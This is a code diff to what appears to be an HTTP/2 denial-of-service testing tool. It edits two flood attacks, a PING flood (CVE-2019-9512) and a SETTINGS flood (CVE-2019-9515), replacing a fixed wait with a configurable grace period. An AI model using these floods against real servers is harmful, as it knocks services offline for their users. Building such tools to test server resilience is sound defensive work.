@@ -31,11 +31,11 @@ export const floods: readonly Attack[] = [
     about: 'PING, and no reply to it is read (CVE-2019-9512).',
     goal,
     times,
-    run(target, count, { send }) {
+    run(target, count, { send, grace }) {
       const one = frame(type.ping, 0, 0, Buffer.alloc(8))
       return byOne(target, (connection) => flood(connection, count, () => one), {
         deaf: true,
-        wait: send + 30_000,
+        wait: send + grace,
       })
     },
   },
@@ -44,11 +44,11 @@ export const floods: readonly Attack[] = [
     about: 'SETTINGS, and no acknowledgement is read (CVE-2019-9515).',
     goal,
     times,
-    run(target, count, { send }) {
+    run(target, count, { send, grace }) {
       const one = settings([[3, 100]])
       return byOne(target, (connection) => flood(connection, count, () => one), {
         deaf: true,
-        wait: send + 30_000,
+        wait: send + grace,
       })
     },
   },
